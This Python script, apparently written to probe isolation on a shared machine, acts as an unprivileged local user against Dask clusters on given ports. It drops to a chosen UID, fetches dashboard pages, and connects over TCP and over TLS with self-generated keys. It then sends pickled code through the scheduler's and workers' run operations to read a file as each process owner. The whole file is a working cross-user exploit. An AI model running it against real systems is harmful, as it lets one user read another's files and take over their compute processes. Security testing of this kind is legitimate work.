"""A program of another user that tries every port of Dask on this machine.

    python dask_stranger.py UID FILE PORT...

It prints a line for each thing that it could do: read a page, or a file as the owner of a process.
"""

import asyncio
import logging
import os
import sys
import urllib.request
from http.client import HTTPException
from pathlib import Path

import distributed
from distributed.protocol.pickle import dumps

TIMEOUT_S = 5.0
PAGES = ("info/main/workers.html", "json/identity.json", "health", "metrics", "status")


def read(*_, path):
    return Path(path).read_text()


def read_page(port, page):
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/{page}", timeout=TIMEOUT_S):
            return f"{port}: page {page}"
    except (OSError, HTTPException):
        return ""


async def as_client(address, security, path):
    """Run a function in a scheduler."""
    client = distributed.Client(address, security=security, asynchronous=True, timeout=TIMEOUT_S)
    async with client:
        return f"{address}: {await client.run_on_scheduler(read, path=path)}"


async def as_scheduler(address, security, path):
    """Run a function in a worker or its nanny."""
    arguments = security.get_connection_args("client")
    comm = await distributed.comm.connect(address, timeout=TIMEOUT_S, **arguments)
    task = {"function": dumps(read), "kwargs": dumps({"path": path}), "wait": True}
    await comm.write({"op": "run", "reply": True, **task})
    return f"{address}: {await comm.read()}"


async def attack(path, ports, own_keys):
    acts = []
    for port in ports:
        acts += [asyncio.to_thread(read_page, port, page) for page in PAGES]
        for scheme, security in (("tcp", distributed.Security()), ("tls", own_keys)):
            address = f"{scheme}://127.0.0.1:{port}"
            acts += [one(address, security, path) for one in (as_client, as_scheduler)]
    limited = [asyncio.wait_for(act, TIMEOUT_S) for act in acts]
    found = await asyncio.gather(*limited, return_exceptions=True)
    sys.stdout.writelines(f"{one}\n" for one in found if isinstance(one, str) and one)


def main(uid, path, *ports):
    logging.disable(logging.CRITICAL)
    own_keys = distributed.Security.temporary()
    os.setgroups([])
    os.setgid(int(uid))
    os.setuid(int(uid))
    asyncio.run(attack(path, ports, own_keys))
    sys.stdout.flush()
    os._exit(0)  # Dask's clean-up waits for connections


if __name__ == "__main__":
    main(*sys.argv[1:])
